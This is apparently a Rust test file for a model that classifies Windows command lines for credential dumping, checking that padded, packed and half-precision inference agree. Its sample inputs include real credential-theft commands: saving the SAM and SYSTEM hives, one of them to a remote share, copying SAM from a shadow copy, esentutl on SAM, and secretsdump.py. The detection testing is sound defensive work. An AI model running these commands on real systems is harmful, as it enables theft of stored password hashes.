//! What runs on a GPU, run on the CPU: attention over padded rectangles, in f32 and in half precision, against
//! the CPU's own loops over packed sequences.

use candle_core::DType;
use t1003_model::backend::Backend;
use t1003_model::bundle::Bundle;
use t1003_model::candle::CandleBackend;
use t1003_model::packed::Packed;
use t1003_model::tokenize::Tokenizer;
use t1003_model::{Place, Stop, shipped};

const TEXTS: [&str; 12] = [
    "whoami",
    r"reg save HKLM\SAM C:\temp\sam.hiv",
    r"reg.exe save hklm\sam \\10.0.0.5\share\s & reg.exe save hklm\system \\10.0.0.5\share\y",
    r"C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule",
    r"copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM C:\temp\x",
    "secretsdump.py -sam sam.hiv -system system.hiv LOCAL",
    "powershell -NoProfile -Command \"Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB } | Sort-Object Length\"",
    r"esentutl.exe /y /vss C:\Windows\System32\config\SAM /d C:\temp\SAM",
    "dir",
    "git commit -m 'Say what is meant'",
    "ping -n 4 127.0.0.1",
    r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=de --disable-gpu-compositing"#,
];

fn place(dtype: DType) -> Place {
    Place { device: candle_core::Device::Cpu, dtype }
}

/// Logits of `TEXTS`, a pair each, in one batch as they stand: unsorted, of many lengths.
fn logits(dtype: DType, padded: bool) -> Vec<f32> {
    let bundle = Bundle::open(shipped::FILES).unwrap();
    let tokenizer = Tokenizer::open(&bundle.files, &bundle.config).unwrap();
    let backend = CandleBackend::open(&bundle.files, &bundle.config, 2, &place(dtype)).unwrap();
    let backend = if padded { backend.padded() } else { backend };
    let batch: Packed = TEXTS.iter().map(|text| input(&tokenizer.ids(text).unwrap(), &bundle)).collect();
    backend.logits(&batch, &Stop::default()).unwrap()
}

fn input(ids: &[u32], bundle: &Bundle) -> Vec<u32> {
    bundle.manifest.windows.cut(ids, &bundle.config).next().unwrap()
}

/// The largest difference, and whether all pairs decide alike.
fn compare(a: &[f32], b: &[f32]) -> (f32, bool) {
    let difference = a.iter().zip(b).map(|(a, b)| (a - b).abs()).fold(0.0, f32::max);
    let verdicts = |l: &[f32]| l.chunks(2).map(|l| l[1] > l[0]).collect::<Vec<_>>();
    (difference, verdicts(a) == verdicts(b))
}

#[test]
fn padded_is_packed_in_f32() {
    let (difference, alike) = compare(&logits(DType::F32, true), &logits(DType::F32, false));
    assert!(difference <= 1e-4 && alike, "{difference}");
}

#[test]
fn half_precision_is_f32_within_its_digits() {
    let packed = logits(DType::F32, false);
    for (dtype, tolerance) in [(DType::BF16, 2e-2), (DType::F16, 2e-3)] {
        let (difference, alike) = compare(&logits(dtype, true), &packed);
        println!("{dtype:?}: {difference}");
        assert!(difference <= tolerance && alike, "{dtype:?}: {difference}");
    }
}

#[test]
fn what_a_batch_takes_of_a_gpu_is_bounded() {
    let bundle = Bundle::open(shipped::FILES).unwrap();
    let backend = CandleBackend::open(&bundle.files, &bundle.config, 2, &place(DType::BF16)).unwrap();
    // at least the embeddings of a batch, and no more than a small GPU has
    assert!(backend.batch_bytes() > backend.token_budget() * bundle.config.hidden_size * 2);
    assert!(backend.batch_bytes() < 2 << 30, "{}", backend.batch_bytes());
}
